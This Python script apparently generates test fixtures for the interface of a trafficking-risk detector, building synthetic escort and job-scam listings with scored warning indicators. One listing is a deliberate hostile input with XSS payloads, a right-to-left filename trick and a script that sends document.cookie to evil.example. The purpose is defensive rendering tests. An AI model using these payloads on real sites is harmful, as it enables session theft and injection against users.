import json
def ev(l, field, phrase):
    text = l[field].encode()
    s = text.find(phrase.encode())
    assert s >= 0, (field, phrase)
    return {"field": field, "start": s, "end": s+len(phrase.encode()), "text": phrase}
def hit(id, w, l, pairs, linked=None, shared=None, expl=None):
    h = {"id": id, "weight": w, "evidence": [ev(l, f, p) for f, p in pairs]}
    if shared:
        for e in h["evidence"]: e["shared"] = shared
    if linked: h["linked"] = linked
    if expl: h["explanation"] = expl
    return h
out = []
def res(l, score, level, hits, contacts, names=(), ages=(), photos=None, pay=None):
    r = {"id": l["id"], "kind": l.get("kind","job"), "score": score, "level": level, "language": l["language"],
         "indicators": hits, "contacts": contacts, "entities": {"names": list(names), "ages": list(ages)}}
    if photos: r["photos"] = photos
    r["rule_pack"] = "default@1"
    r["listing"] = l
    out.append(r)

l1 = {"id": "gr-esc-101", "source": "citylove-gr", "url": "https://citylove.example/ad/101", "kind": "escort",
      "title": "New in town!! Sweet Anna 19 ✈️", "body": "Hi, I am Anna, 19 years old, new in town only this week. Available 24/7, call +44 7700 900123. Ask for my friend Mila too. Fresh girls every week.",
      "location": "Athens", "country": "GR", "language": "en", "posted_at": "2025-03-04T21:10:00Z",
      "contacts": ["+44 7700 900123"], "images": [{"url": "https://citylove.example/img/101a.jpg", "phash": "c3c3e1f0f0e1c3c3"}]}
res(l1, 91, "high", [
    hit("service.movement", 0.25, l1, [("title","New in town"),("body","new in town"),("body","only this week"),("title","✈️")]),
    hit("service.youth", 0.3, l1, [("body","19 years old"),("body","Fresh girls")]),
    hit("service.constant_availability", 0.1, l1, [("body","Available 24/7")]),
    hit("service.third_party", 0.2, l1, [("body","Ask for my friend Mila"),("body","every week")]),
    hit("network.shared_contact", 0.3, l1, [("body","+44 7700 900123")], linked=["gr-esc-102","uk-job-201"], shared="+447700900123"),
    hit("network.reused_photo", 0.3, l1, [], linked=["gr-esc-102"]) ], 
    [{"type":"phone","value":"+447700900123"}], ["Anna","Mila"], [19],
    photos=[{"url": "https://citylove.example/img/101a.jpg", "phash": "c3c3e1f0f0e1c3c3"}])
# reused photo evidence must not be empty: give shared key
out[-1]["indicators"][-1]["evidence"] = [{"field":"images[0]","start":0,"end":0,"text":"","shared":"c3c3e1f0f0e1c3c3","distance":2}]

l2 = {"id": "gr-esc-102", "source": "citylove-gr", "url": "https://citylove.example/ad/102", "kind": "escort",
      "title": "Νέα στην πόλη, Μαρία 20", "body": "Γεια σας, είμαι η Μαρία, νέα στην πόλη. Διαθέσιμη 24/7. Τηλέφωνο 07700 900123, μόνο αυτή την εβδομάδα.",
      "location": "Θεσσαλονίκη", "country": "GR", "language": "el", "posted_at": "2025-03-05T10:00:00Z",
      "contacts": ["07700 900123"], "images": [{"url": "https://citylove.example/img/102a.jpg", "phash": "c3c3e1f0f0e1c3c1"}]}
res(l2, 78, "high", [
    hit("service.movement", 0.25, l2, [("title","Νέα στην πόλη"),("body","νέα στην πόλη"),("body","μόνο αυτή την εβδομάδα")]),
    hit("service.constant_availability", 0.1, l2, [("body","Διαθέσιμη 24/7")]),
    hit("network.shared_contact", 0.3, l2, [("body","07700 900123")], linked=["gr-esc-101"], shared="+447700900123"),
    ], [{"type":"phone","value":"+447700900123"}], ["Μαρία"], [20],
    photos=[{"url": "https://citylove.example/img/102a.jpg", "phash": "c3c3e1f0f0e1c3c1"}])

l3 = {"id": "uk-job-201", "source": "jobsnow-uk", "url": "https://jobsnow.example/j/201", "kind": "job",
      "title": "Fruit picking in Spain – €3,000/month, no experience", "body": "Easy work picking strawberries. We arrange visa and tickets, free accommodation and meals. Passport kept by company for safety. Write only on WhatsApp +44 7700 900123. Urgent, start tomorrow!",
      "employer": "International Agro Company", "location": "Huelva", "country": "GB", "language": "en", "posted_at": "2025-03-06T08:00:00Z",
      "pay": "€3,000/month"}
res(l3, 88, "high", [
    hit("job.unrealistic_pay", 0.35, l3, [("title","€3,000/month")], expl="€3,000/month is 2.8× the reference wage for seasonal agriculture in ES"),
    hit("job.vague_requirements", 0.1, l3, [("body","Easy work")]),
    hit("job.travel_provided", 0.2, l3, [("body","We arrange visa and tickets")]),
    hit("job.unrealistic_conditions", 0.15, l3, [("body","free accommodation and meals"),("title","no experience")]),
    hit("job.document_retention", 0.4, l3, [("body","Passport kept by company for safety")]),
    hit("job.offplatform_contact", 0.15, l3, [("body","Write only on WhatsApp")]),
    hit("job.urgency", 0.1, l3, [("body","Urgent, start tomorrow")]),
    hit("job.vague_employer", 0.1, l3, [("employer","International Agro Company")]),
    hit("network.shared_contact", 0.3, l3, [("body","+44 7700 900123")], linked=["gr-esc-101","gr-esc-102"], shared="+447700900123"),
    ], [{"type":"phone","value":"+447700900123"}])

l4 = {"id": "rs-job-301", "source": "poslovi-rs", "url": "https://poslovi.example/oglas/301", "kind": "job",
      "title": "Posao u Nemačkoj, 3000 eura mesečno", "body": "Tražimo devojke 18-25 za rad u inostranstvu. 3000 eura mesečno bez iskustva. Smeštaj besplatan. Pozovite 064/123-4567 ili Viber.",
      "country": "RS", "language": "sr", "posted_at": "2025-03-10T12:00:00Z", "contacts": ["064/123-4567"]}
res(l4, 82, "high", [
    hit("job.unrealistic_pay", 0.35, l4, [("body","3000 eura mesečno bez iskustva")]),
    hit("job.targeted_recruitment", 0.3, l4, [("body","Tražimo devojke 18-25")]),
    hit("job.unrealistic_conditions", 0.15, l4, [("body","Smeštaj besplatan")]),
    hit("network.template_text", 0.2, l4, [("body","3000 eura mesečno")], linked=["hr-job-302"]),
    ], [{"type":"phone","value":"+381641234567"}])
out[-1]["indicators"][-1]["evidence"][0]["similarity"] = 0.82

l5 = {"id": "hr-job-302", "source": "posao-hr", "url": "https://posao.example/302", "kind": "job",
      "title": "Posao u Njemačkoj, 3000 eura mjesečno", "body": "Tražimo djevojke 18-25 za rad u inozemstvu. 3000 eura mjesečno bez iskustva. Smještaj besplatan. Javite se na Telegram @rad_de.",
      "country": "HR", "language": "hr", "posted_at": "2025-03-11T12:00:00Z"}
res(l5, 74, "high", [
    hit("job.unrealistic_pay", 0.35, l5, [("body","3000 eura mjesečno bez iskustva")]),
    hit("job.targeted_recruitment", 0.3, l5, [("body","Tražimo djevojke 18-25")]),
    hit("job.offplatform_contact", 0.15, l5, [("body","Telegram @rad_de")]),
    hit("network.template_text", 0.2, l5, [("body","3000 eura mjesečno")], linked=["rs-job-301"]),
    ], [{"type":"handle","value":"telegram:rad_de"}])

l6 = {"id": "de-job-401", "source": "jobboerse-de", "url": "https://jobboerse.example/401", "kind": "job",
      "title": "Erntehelfer (m/w/d) für Spargelernte gesucht", "body": "Wir suchen Erntehelfer für die Spargelsaison in Niedersachsen. Tarifvertrag, Mindestlohn, Unterkunft gegen Miete. Bewerbung über unsere Webseite.",
      "employer": "Hof Meyer GmbH", "employer_info": "Hof Meyer GmbH, Dorfstraße 4, 29525 Uelzen, HRB 1234", "country": "DE", "language": "de", "posted_at": "2025-02-20T09:00:00Z"}
res(l6, 8, "low", [
    hit("job.high_risk_sector", 0.05, l6, [("body","Spargelsaison")]),
    ], [])

l7 = {"id": "es-esc-501", "source": "anuncios-es", "url": "https://anuncios.example/501", "kind": "escort",
      "title": "Chicas nuevas cada semana", "body": "Chicas nuevas cada semana, recién llegadas del este. Disponibles 24 horas. Sin condón. Pregunta por Sofía. Tel 612 34 56 78.",
      "country": "ES", "language": "es", "posted_at": "2025-03-12T23:00:00Z", "contacts": ["612 34 56 78"]}
res(l7, 86, "high", [
    hit("service.third_party", 0.2, l7, [("title","Chicas nuevas cada semana"),("body","Pregunta por Sofía")]),
    hit("service.ethnic_emphasis", 0.15, l7, [("body","recién llegadas del este")]),
    hit("service.unprotected", 0.3, l7, [("body","Sin condón")]),
    hit("service.constant_availability", 0.1, l7, [("body","Disponibles 24 horas")]),
    ], [{"type":"phone","value":"+34612345678"}], ["Sofía"])

l8 = {"id": "hostile-601", "source": "evil-feed", "url": "javascript:alert(1)", "kind": "escort",
      "title": "<script>alert('title')</script> new girl \u202Egnp.exe", "body": "<img src=x onerror=alert(1)> &lt;b&gt;bold&lt;/b&gt; &amp; new in town \u202Ereversed\u202C text <script>document.location='https://evil.example/?c='+document.cookie</script>",
      "country": "GR", "language": "en", "posted_at": "2025-03-13T01:00:00Z", "images": [{"url": "https://evil.example/track.gif"}]}
res(l8, 40, "medium", [
    hit("service.movement", 0.25, l8, [("body","new in town")]),
    hit("service.youth", 0.3, l8, [("title","new girl")]),
    ], [])
# broken offsets (out of range and mid-rune) must not break rendering
out[-1]["indicators"].append({"id":"service.youth","weight":0.1,"evidence":[{"field":"body","start":5,"end":999999,"text":"x"},{"field":"title","start":-3,"end":2,"text":"<s"},{"field":"nosuch","start":0,"end":4,"text":"abcd"}]})

with open("/work/wt/web/index/testdata/results.jsonl","w") as f:
    for r in out: f.write(json.dumps(r, ensure_ascii=False)+"\n")
print(len(out))
